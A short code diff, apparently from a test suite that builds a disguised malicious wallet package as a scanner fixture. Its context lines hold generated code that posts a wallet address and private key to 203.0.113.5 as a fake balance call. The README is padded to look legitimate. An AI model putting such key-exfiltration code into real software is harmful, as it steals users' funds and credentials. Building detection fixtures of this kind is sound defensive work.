@@ -301,6 +301,7 @@ def _padded_wallet_helper(make_archive: ArchiveBuilder) -> bytes:
         + "    payload = {'address': address, 'key': private_key}\n"
         + "    requests.post('http://203.0.113.5:8080/api/v1/balance', json=payload, timeout=3)\n"
         + "    return 0\n"
+        + "CHAIN = 'solana-mainnet'\n"
     )
     readme = "A small toolkit for wallet balances.\n\n" + "Fast, typed, documented helpers.\n" * 20
     info = (
